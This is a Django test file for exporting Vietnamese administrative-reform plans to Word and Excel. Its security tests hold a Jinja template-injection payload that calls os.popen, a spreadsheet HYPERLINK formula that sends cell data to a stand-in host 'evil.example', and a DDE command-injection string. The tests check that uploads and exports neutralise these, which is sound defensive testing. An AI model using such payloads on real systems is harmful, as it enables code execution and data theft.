"""Plan exports: the Word file in the Decree 30/2020 layout (and back through the importer), the
Excel task list, administrators' templates, and LibreOffice opening the Word file."""

from __future__ import annotations

import datetime as dt
import io
import shutil
import subprocess
import tempfile
from pathlib import Path

import docx
import pdfplumber
import pytest
from django.core.exceptions import ValidationError
from django.test import TestCase
from django.urls import reverse
from docx.enum.section import WD_ORIENT
from openpyxl import load_workbook

from cchc.core.testing.personas import build_world
from cchc.documents import exports, layout, selectors, services
from cchc.documents.extraction import extract_plan
from cchc.documents.models import PlanTemplate
from cchc.documents.readers import read_document
from cchc.documents.tests.factories import restore, scratch_media, upload
from cchc.documents.tests.support import FILES
from cchc.plans import services as plan_services
from cchc.plans.choices import AREA_ORDER
from cchc.plans.models import PlanArea
from cchc.plans.services import plan_issue

ARTIFACTS = Path(__file__).resolve().parents[3] / "test-artifacts"


def test_place_and_date_pads_days_below_ten_and_the_first_two_months():
    assert layout.place_and_date("Nam Định", dt.date(2024, 1, 5)) == "Nam Định, ngày 05 tháng 01 năm 2024"
    assert layout.place_and_date("Cần Thơ", dt.date(2023, 12, 25)) == "Cần Thơ, ngày 25 tháng 12 năm 2023"
    assert layout.place_and_date("Cần Thơ", dt.date(2025, 3, 9)) == "Cần Thơ, ngày 09 tháng 3 năm 2025"
    assert layout.place_and_date("", None, 2024) == "ngày      tháng      năm 2024"


def test_local_governments_head_the_document_as_their_peoples_committee():
    assert exports.agency_name("Tỉnh Nam Định", "province") == "UBND TỈNH NAM ĐỊNH"
    assert exports.agency_name("Sở Xây dựng", "department") == "SỞ XÂY DỰNG"


def _docx_text(data: bytes) -> list[str]:
    return [paragraph.text for paragraph in docx.Document(io.BytesIO(data)).paragraphs]


def _appendix_rows(data: bytes) -> list[list[str]]:
    """(STT, Nhiệm vụ) of each row of the appendix table below its header."""
    return [[cell.text for cell in row.cells][:2] for row in docx.Document(io.BytesIO(data)).tables[-1].rows[1:]]


class PlanExportTests(TestCase):
    """Seed 003 (Sở Xây dựng Nam Định, 43 tasks in 9 areas) imported, issued, then exported."""

    @classmethod
    def setUpTestData(cls):
        cls.world = build_world()
        focal = cls.world.users["focal"]
        document = read_document((FILES / "seed_003.docx").read_bytes(), "seed_003.docx")
        draft = extract_plan(document).to_json()
        unit = cls.world.dept_a
        reviewed = selectors.reviewed_from_draft(draft, selectors.unit_matches(
            ["Văn phòng Sở"], unit, 2024), unit)
        cls.plan = services.plan_from_review(unit=unit, reviewed=reviewed, actor=focal)
        plan_issue(plan=cls.plan, number="1711/KH-SXD", issued_on=dt.date(2023, 12, 5), signer_name="Vũ Văn Hưng",
                   signer_title="Giám đốc", actor=cls.world.users["head"])
        cls.plan.refresh_from_db()

    def setUp(self):
        self.client.force_login(self.world.users["viewer"])

    def docx(self) -> bytes:
        response = self.client.get(reverse("documents:plan_docx", args=[self.plan.pk]))
        self.assertEqual(response.status_code, 200)
        return response.content

    def test_the_word_file_has_the_decree_30_header_title_signature_and_recipients(self):
        data = self.docx()
        word = docx.Document(io.BytesIO(data))
        header = [p.text for cell in word.tables[0].rows[0].cells for p in cell.paragraphs]
        self.assertEqual(header, ["UBND TỈNH THỬ NGHIỆM", "SỞ XÂY DỰNG", layout.RULE, "Số: 1711/KH-SXD",
                                  "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc", "",
                                  "Nam Định, ngày 05 tháng 12 năm 2023"])
        text = _docx_text(data)
        self.assertEqual(text[1:3], ["KẾ HOẠCH", "Cải cách hành chính Sở Xây dựng năm 2024"])
        self.assertIn("Căn cứ Kế hoạch số 111/KH-UBND ngày 29/9/2021 của UBND tỉnh về việc ban hành Kế hoạch Cải cách hành "
                      "chính tỉnh Nam Định giai đoạn 2021-2025;", text)
        self.assertIn("III. NHIỆM VỤ", text)
        signature = [p.text for cell in word.tables[1].rows[0].cells for p in cell.paragraphs]
        self.assertEqual(signature, ["Nơi nhận:", "- Tỉnh Thử Nghiệm (để báo cáo);", "- Các phòng, đơn vị trực thuộc;",
                                     "- Lưu: VT.", "GIÁM ĐỐC", "", "", "", "", "Vũ Văn Hưng"])

    def test_the_task_appendix_is_a_landscape_table_with_a_row_per_area_and_task(self):
        word = docx.Document(io.BytesIO(self.docx()))
        self.assertEqual([s.orientation for s in word.sections], [WD_ORIENT.PORTRAIT, WD_ORIENT.LANDSCAPE])
        self.assertGreater(word.sections[1].page_width, word.sections[1].page_height)
        table = word.tables[2]
        self.assertEqual([c.text for c in table.rows[0].cells], ["STT", "Nhiệm vụ", "Sản phẩm", "Đơn vị chủ trì",
                                                                 "Đơn vị phối hợp", "Thời gian thực hiện", "Kinh phí"])
        self.assertEqual(len(table.rows), 1 + 9 + 43)
        # the seed lists "Cải cách thể chế" first and "Công tác chỉ đạo, điều hành" eighth: the export follows the
        # national order, numbers the areas I, II, … and the tasks 1 to 43 in that order
        area_rows = [(row.cells[0].text, row.cells[1].text) for row in table.rows[1:] if not row.cells[0].text.isdigit()]
        self.assertEqual([number for number, _title in area_rows], ["I", "II", "III", "IV", "V", "VI", "VII", "VIII", "IX"])
        self.assertEqual(area_rows[0][1], self.plan.areas.get(code="direction").title)
        self.assertEqual(area_rows[1][1], "Cải cách thể chế")
        numbers = [row.cells[0].text for row in table.rows[1:] if row.cells[0].text.isdigit()]
        self.assertEqual(numbers, [str(n) for n in range(1, 44)])
        sixth = self.plan.tasks.get(area__code="institutions", number="6")  # task 6 of the seed: several products
        row = next(row for row in table.rows if row.cells[1].text == sixth.title)
        self.assertEqual([p.text for p in row.cells[2].paragraphs], ["Các kế hoạch", "Thông báo", "Quyết định", "Báo cáo"])

    def test_exporting_then_importing_gives_back_the_same_tasks(self):
        draft = extract_plan(read_document(self.docx(), "ke-hoach.docx"))
        tasks = sorted(self.plan.tasks.select_related("area"), key=lambda t: (AREA_ORDER[t.area.code], t.area.position,
                                                                               t.position))
        self.assertEqual(
            [(t.area_code, t.number, t.title, t.products, t.lead, t.coordinators, t.timeframe.text or "", t.budget or "")
             for t in draft.tasks],
            [(t.area.code, str(n), t.title, t.products, t.lead_text, t.coordinators_text.split("; "), t.timeframe,
              t.budget_source) for n, t in enumerate(tasks, 1)],
        )
        self.assertEqual((draft.title, draft.year, draft.number, draft.signer.name), (
            self.plan.title, 2024, "1711/KH-SXD", "Vũ Văn Hưng"))

    def test_the_excel_task_list_has_a_frozen_filtered_header_and_a_row_per_task(self):
        response = self.client.get(reverse("documents:plan_xlsx", args=[self.plan.pk]))
        self.assertEqual(response["Content-Disposition"], f'attachment; filename="ke-hoach-2024-TN-SXD-{self.plan.pk}.xlsx"')
        sheet = load_workbook(io.BytesIO(response.content)).active
        self.assertEqual(sheet.title, "Nhiệm vụ")
        self.assertEqual([c.value for c in sheet[1]], ["STT", "Lĩnh vực", "Nhiệm vụ", "Sản phẩm", "Chủ trì", "Đơn vị phối hợp",
                                                       "Thời gian", "Hạn hoàn thành", "Định kỳ", "Kinh phí", "Tình trạng",
                                                       "Tỷ lệ hoàn thành (%)"])
        self.assertTrue(all(c.font.bold for c in sheet[1]))
        self.assertEqual((sheet.freeze_panes, sheet.auto_filter.ref, sheet.max_row), ("A2", "A1:L44", 44))
        self.assertEqual((sheet.column_dimensions["C"].width, sheet.column_dimensions["A"].width), (60, 6))
        first = [c.value for c in sheet[2]]
        direction = self.plan.areas.get(code="direction")
        task = direction.tasks.order_by("position").first()
        self.assertEqual(first[:3], ["1", f"I. {direction.title}", task.title])
        self.assertEqual(first[9:], [task.budget_source, "Chưa triển khai", 0])
        self.assertFalse(task.budget_source.startswith("Kinh phí"))
        due = [row[7].value for row in sheet.iter_rows(min_row=2) if row[7].value]
        self.assertIsInstance(due[0], dt.datetime)
        self.assertEqual(sheet["H2"].number_format, "DD/MM/YYYY")

    def test_an_administrators_template_is_used_for_the_unit_and_below_the_nearest_winning(self):
        custom = docx.Document(io.BytesIO(selectors.DEFAULT_TEMPLATE.read_bytes()))
        custom.paragraphs[0].insert_paragraph_before("MẪU CỦA TỈNH")
        buffer = io.BytesIO()
        custom.save(buffer)
        admin = self.world.users["admin"]
        province = services.template_upload(unit=self.world.province, file=upload("tinh.docx", buffer.getvalue()), actor=admin)
        self.assertIn("MẪU CỦA TỈNH", _docx_text(self.docx()))
        own = services.template_upload(unit=self.world.dept_a, file=upload("so.docx", selectors.DEFAULT_TEMPLATE.read_bytes()),
                                       actor=admin)
        self.assertEqual(selectors.template_for(self.world.dept_a), own)
        self.assertNotIn("MẪU CỦA TỈNH", _docx_text(self.docx()))
        self.assertEqual(selectors.template_for(self.world.dept_b), province)

    def test_a_template_that_does_not_render_is_refused(self):
        broken = docx.Document()
        broken.add_paragraph("{{ number ")
        buffer = io.BytesIO()
        broken.save(buffer)
        with self.assertRaises(ValidationError) as caught:
            services.template_upload(unit=self.world.dept_a, file=upload("hong.docx", buffer.getvalue()),
                                     actor=self.world.users["admin"])
        self.assertEqual(list(caught.exception.message_dict), ["file"])
        self.assertTrue(caught.exception.message_dict["file"][0].startswith("Không điền được mẫu Word: "))
        self.assertEqual(PlanTemplate.objects.count(), 0)

    def test_a_stored_template_that_fails_sends_back_to_the_plan_with_the_reason(self):
        broken = docx.Document()
        broken.add_paragraph("{% for x in %}")
        buffer = io.BytesIO()
        broken.save(buffer)
        with scratch_media():
            template = PlanTemplate.objects.create(unit=self.world.dept_a, file=upload("hong.docx", buffer.getvalue()))
        restore(template.file, buffer.getvalue())
        response = self.client.get(reverse("documents:plan_docx", args=[self.plan.pk]), follow=True)
        self.assertRedirects(response, self.plan.get_absolute_url())
        self.assertIn("Không điền được mẫu Word: ", response.content.decode())

    def _payload_docx(self, mark: Path) -> bytes:
        evil = docx.Document(io.BytesIO(selectors.DEFAULT_TEMPLATE.read_bytes()))
        evil.add_paragraph(f"{{{{ cycler.__init__.__globals__.os.popen('touch {mark}').read() }}}}")
        evil.add_paragraph("{{ ''.__class__.__mro__ }}")
        buffer = io.BytesIO()
        evil.save(buffer)
        return buffer.getvalue()

    def test_a_template_that_runs_code_is_refused_at_upload_and_runs_nothing(self):
        with tempfile.TemporaryDirectory() as folder:
            mark = Path(folder) / "ran"
            with self.assertRaises(ValidationError) as caught:
                services.template_upload(unit=self.world.dept_a, file=upload("doc.docx", self._payload_docx(mark)),
                                         actor=self.world.users["admin"])
            self.assertFalse(mark.exists())
        self.assertEqual(caught.exception.message_dict, {"file": [
            "Mẫu Word dùng thao tác không được phép: access to attribute '__init__' of 'StrictUndefined' object is unsafe."]})
        self.assertEqual(PlanTemplate.objects.count(), 0)

    def test_a_stored_template_that_runs_code_fails_the_export_safely(self):
        with tempfile.TemporaryDirectory() as folder:
            mark = Path(folder) / "ran"
            data = self._payload_docx(mark)
            with scratch_media():  # stored before uploads were checked in the sandbox
                template = PlanTemplate.objects.create(unit=self.world.dept_a, file=upload("doc.docx", data))
            restore(template.file, data)
            response = self.client.get(reverse("documents:plan_docx", args=[self.plan.pk]), follow=True)
            self.assertFalse(mark.exists())
        self.assertRedirects(response, self.plan.get_absolute_url())
        self.assertContains(response, "Mẫu Word dùng thao tác không được phép: access to attribute")

    def test_a_template_whose_file_is_gone_is_named_not_a_server_error(self):
        with scratch_media():  # the file is stored in a folder deleted afterwards: the record outlives it
            template = PlanTemplate.objects.create(unit=self.world.dept_a, file=upload("doc.docx", b"PK\x03\x04"))
        response = self.client.get(reverse("documents:plan_docx", args=[self.plan.pk]), follow=True)
        self.assertRedirects(response, self.plan.get_absolute_url())
        self.assertContains(response, "Tệp mẫu Word đã tải lên không còn trong kho lưu trữ; hãy tải lên lại hoặc xóa mẫu này.")
        self.client.force_login(self.world.users["admin"])
        self.assertEqual(self.client.get(reverse("documents:template_download", args=[template.pk])).status_code, 404)

    def test_text_that_starts_like_a_formula_is_written_as_text_in_the_task_list(self):
        task = self.plan.tasks.filter(area__code="direction").order_by("position").first()  # the first row: national order
        type(task).objects.filter(pk=task.pk).update(title='=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
                                                     lead_text="@SUM(1+1)*cmd|' /C calc'!A0")
        response = self.client.get(reverse("documents:plan_xlsx", args=[self.plan.pk]))
        sheet = load_workbook(io.BytesIO(response.content)).active
        title, lead, percent = sheet["C2"], sheet["E2"], sheet["L2"]
        self.assertEqual((title.value, title.data_type), ("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")", "s"))
        self.assertEqual((lead.value, lead.data_type), ("'@SUM(1+1)*cmd|' /C calc'!A0", "s"))
        self.assertEqual((percent.value, percent.data_type), (0, "n"))
        self.assertFalse([c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"])

    def test_libreoffice_opens_the_word_file_the_appendix_in_landscape(self):
        soffice = shutil.which("soffice") or shutil.which("libreoffice")
        if soffice is None:
            pytest.skip("LibreOffice (soffice) is not installed: the Word file was not opened")
        with tempfile.TemporaryDirectory(prefix="cchc-lo-") as folder:
            source = Path(folder) / "ke-hoach.docx"
            source.write_bytes(self.docx())
            pdf = convert_to_pdf(soffice, source)
            with pdfplumber.open(pdf) as document:
                pages = document.pages
                first = pages[0].extract_text()
                self.assertLess(pages[0].width, pages[0].height)
                self.assertGreater(pages[-1].width, pages[-1].height)
                self.assertIn("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", first)
                self.assertIn("KẾ HOẠCH", first)
            if shutil.which("pdftoppm"):
                ARTIFACTS.mkdir(exist_ok=True)
                subprocess.run(["pdftoppm", "-png", "-r", "80", "-f", "1", "-l", "1", "-singlefile", str(pdf),
                                str(ARTIFACTS / "plan_export_page1")], check=True, timeout=60)


def convert_to_pdf(soffice: str, source: Path) -> Path:
    """``soffice --headless --convert-to pdf`` with a throwaway profile (parallel runs do not share one)."""
    profile = Path(tempfile.mkdtemp(prefix="cchc-lo-profile-"))
    try:
        subprocess.run([soffice, f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to", "pdf", "--outdir",
                        str(source.parent), str(source)], check=True, capture_output=True, timeout=180)
    finally:
        shutil.rmtree(profile, ignore_errors=True)
    return source.with_suffix(".pdf")


class CascadedPlanExportTests(TestCase):
    """A department's plan whose areas were entered out of the national order, one named by its code, with
    tasks taken up from the province's plan keeping the province's numbers (the demo city's Sở Xây dựng 2026)."""

    @classmethod
    def setUpTestData(cls):
        cls.world = build_world()
        admin, focal = cls.world.users["admin"], cls.world.users["focal"]
        dept = cls.world.dept_a
        dept.short_name = "SXD"
        dept.save(update_fields=["short_name"])
        province = plan_services.plan_create(unit=cls.world.province, year=2026, title="CCHC tỉnh 2026", actor=admin)
        procedures = plan_services.area_create(plan=province, code="procedures", local_number="3", title="Cải cách TTHC",
                                               actor=admin)
        for number in ("3", "4"):
            plan_services.task_create(plan=province, area=procedures, number=number, title=f"Nhiệm vụ tỉnh số {number}",
                                      lead_unit=cls.world.home_affairs, timeframe="Quý III/2026", actor=admin)
        plan_issue(plan=province, number="5/KH-UBND", issued_on=dt.date(2025, 12, 20), signer_title="Chủ tịch", actor=admin)
        cls.plan = plan_services.plan_create(unit=dept, year=2026, title="Cải cách hành chính Sở Xây dựng năm 2026",
                                             place="Nam Định", number="/KH-SXD", actor=focal)
        digital = PlanArea.objects.create(plan=cls.plan, code="digital_government", title="digital_government", position=1)
        direction = plan_services.area_create(plan=cls.plan, code="direction", local_number="2", title="Công tác chỉ đạo",
                                              actor=focal)
        plan_services.task_create(plan=cls.plan, area=digital, number="1", title="Số hóa hồ sơ quy hoạch",
                                  timeframe="Quý IV/2026", actor=focal)
        plan_services.task_create(plan=cls.plan, area=direction, number="2", title="Kế hoạch tuyên truyền",
                                  timeframe="Quý I/2026", actor=focal)
        plan_services.task_cascade(task=province.tasks.get(number="3"), units=[dept], actor=cls.world.users["steering"])
        plan_services.task_cascade(task=province.tasks.get(number="4"), units=[dept], actor=cls.world.users["steering"])

    def setUp(self):
        self.client.force_login(self.world.users["focal"])

    def export(self) -> bytes:
        response = self.client.get(reverse("documents:plan_docx", args=[self.plan.pk]))
        self.assertEqual(response.status_code, 200)
        return response.content

    def test_the_appendix_follows_the_national_order_names_every_area_and_numbers_its_tasks(self):
        self.assertEqual(_appendix_rows(self.export()), [
            ["I", "Công tác chỉ đạo"], ["1", "Kế hoạch tuyên truyền"],
            ["II", "Cải cách TTHC"], ["2", "Nhiệm vụ tỉnh số 3"], ["3", "Nhiệm vụ tỉnh số 4"],
            ["III", "Xây dựng và phát triển Chính phủ điện tử, Chính phủ số"], ["4", "Số hóa hồ sơ quy hoạch"],
        ])
        text = _docx_text(self.export())
        self.assertFalse([line for line in text if "digital_government" in line])
        self.assertIn("3. Xây dựng và phát triển Chính phủ điện tử, Chính phủ số: 1 nhiệm vụ.", text)

    def test_a_draft_is_headed_with_the_units_own_symbol_and_place(self):
        word = docx.Document(io.BytesIO(self.export()))
        header = [p.text for cell in word.tables[0].rows[0].cells for p in cell.paragraphs]
        self.assertEqual(header[3], "Số:       /KH-SXD")
        self.assertEqual(header[-1], "Thử Nghiệm, ngày      tháng      năm 2026")
